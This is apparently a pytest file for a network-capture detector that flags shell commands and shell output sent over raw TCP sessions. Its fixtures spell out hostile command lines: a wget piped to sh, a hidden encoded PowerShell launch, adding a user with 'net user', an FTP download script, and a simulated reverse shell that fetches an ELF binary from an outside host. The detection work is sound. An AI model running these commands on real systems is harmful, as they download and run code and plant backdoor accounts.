"""EXP003: two commands, or one that stands nowhere else, or a shell's output; quiet on line protocols and on words."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.builders import drafts, family, openings, signatures
from tests.conftest import case_capture
from tests.rules.access import rows, wire
from tshark_report.rules.access.shell_commands import shell_commands


def typed(*lines: bytes, protocol: str = "TCP", back: bytes = b"", **more: Any) -> Any:
    there = {"src": rows.CLIENT, "dst": rows.SERVER, "dst_port": 4444, "protocol": protocol, "payload": 20}
    made = [there | {"data": line, "order": i} for i, line in enumerate(lines)]
    if back:
        made.append(
            {
                "src": rows.SERVER,
                "dst": rows.CLIENT,
                "src_port": 4444,
                "protocol": protocol,
                "payload": 20,
                "data": back,
            }
        )
    session = [row | {"protocol": protocol} for row in rows.session(0, port=4444)]
    return rows.sessions(session, openings=openings(*made), **more)


def test_fires_at_two_plain_commands() -> None:
    found = drafts(shell_commands, typed(b"id\n", b"uname -a\n"))
    assert [(d.priority, d.hosts) for d in found] == [("high", (rows.SERVER, rows.CLIENT))]


def test_quiet_at_one() -> None:
    assert not drafts(shell_commands, typed(b"id\n"))


@pytest.mark.parametrize(
    "line",
    [
        b"echo open 192.0.2.1 8884 > o&echo user 1 1 >> o&ftp -n -s:o\r\n",
        b"wget http://192.0.2.1/x.sh -O- | sh\n",
        b"cmd.exe /c dir\r\n",
        b"powershell -nop -w hidden -enc AAAA\r\n",
        b"net user bob secret /add\r\n",
    ],
)
def test_fires_at_one_line_that_stands_nowhere_else(line: bytes) -> None:
    assert drafts(shell_commands, typed(line))


@pytest.mark.parametrize(
    "answer",
    [
        b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS>",
        b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n",
        b"/bin/sh: 0: can't access tty; job control turned off\n$ ",
    ],
)
def test_fires_at_a_shells_own_output(answer: bytes) -> None:
    found = drafts(shell_commands, typed(back=answer))
    assert [d.hosts for d in found] == [(rows.SERVER, rows.CLIENT)]


@pytest.mark.parametrize("protocol", ["FTP", "SMTP", "TELNET", "IRC", "SSHv2"])
def test_quiet_on_line_protocols(protocol: str) -> None:
    assert not drafts(shell_commands, typed(b"pwd\n", b"ls\n", b"id\n", protocol=protocol))


@pytest.mark.parametrize("protocol", ["SSL", "TLSv1", "HTTP"])
def test_fires_where_only_the_port_names_the_protocol(protocol: str) -> None:
    assert drafts(shell_commands, typed(b"uname -a\n", b"id\n", protocol=protocol))


def test_quiet_where_tls_or_http_was_spoken() -> None:
    hello = family("tls", {"src": rows.CLIENT, "dst": rows.SERVER, "handshake": [1], "stream": 0})
    asked = family("http", {"src": rows.CLIENT, "dst": rows.SERVER, "method": "POST", "uri": "/", "stream": 0})
    assert not drafts(shell_commands, typed(b"uname -a\n", b"id\n", protocol="TLSv1", tls=hello))
    assert not drafts(shell_commands, typed(b"uname -a\n", b"id\n", protocol="HTTP", http=asked))


@pytest.mark.parametrize(
    "lines",
    [
        (b"look\n", b"north\n", b"w\n"),
        (b"PING\r\n", b"INFO\r\n"),
        (b"\x00\x01id\n\x02\x03\x04\x05", b"id"),
        (b"id", b"ls", b"pwd"),
    ],
)
def test_quiet_on_other_lines(lines: tuple[bytes, ...]) -> None:
    assert not drafts(shell_commands, typed(*lines))


def test_a_reverse_shell_on_the_wire(loaded: Any, tmp_path: Path) -> None:
    said = [
        ("s", b"id\n"),
        ("c", b"uid=33(www-data) gid=33(www-data)\n"),
        ("s", b"wget http://192.0.2.1/x -O /tmp/x\n"),
    ]
    fetched = [("c", b"GIVE\n"), ("s", b"\x7fELF\x02\x01\x01" + b"\0" * 3000)]
    path = wire.write(
        tmp_path / "shell.pcap",
        [
            *wire.conversation(0, wire.SERVER, wire.OUTSIDE, (46000, 4444), said),
            *wire.conversation(5, wire.SERVER, wire.OUTSIDE, (46001, 9000), fetched),
            *wire.conversation(6, wire.CLIENT, wire.SERVER, (46002, 9001), [("c", b"hello\n")]),
        ],
    )
    found = drafts(shell_commands, loaded(path).tables)
    assert [d.hosts for d in found] == [(wire.SERVER, wire.OUTSIDE)]
    assert "had connected out" in found[0].summary
    assert "executable (ELF)" in found[0].summary
    assert wire.exact(path, found[0])


@pytest.mark.shared
@pytest.mark.parametrize(
    ("case", "texts"),
    [
        ("hn_attack_trace_lsass", ("1957", "8884", "1080", "ssms.exe", "NzmxFtpd")),
        ("mal_log4shell", ("9001", "whoami")),
    ],
)
def test_on_published_captures(loaded: Any, case: str, texts: tuple[str, ...]) -> None:
    path = case_capture(case)
    found = drafts(shell_commands, loaded(path).tables)
    assert all(text in found[0].summary for text in texts)
    assert wire.exact(path, found[0])


def test_output_late_in_a_stream_is_seen_by_its_signature() -> None:
    session = rows.session(0, port=4444)
    hit = {"kind": "id-output", "context": b"...uid=0(root) gid=0(root)\n", "src": rows.SERVER, "dst": rows.CLIENT}
    found = drafts(shell_commands, rows.sessions(session, signatures=signatures(hit)))
    assert "uid=0(root)" in found[0].summary
    other = hit | {"context": b"say (x) gid= twice"}
    assert not drafts(shell_commands, rows.sessions(session, signatures=signatures(other)))
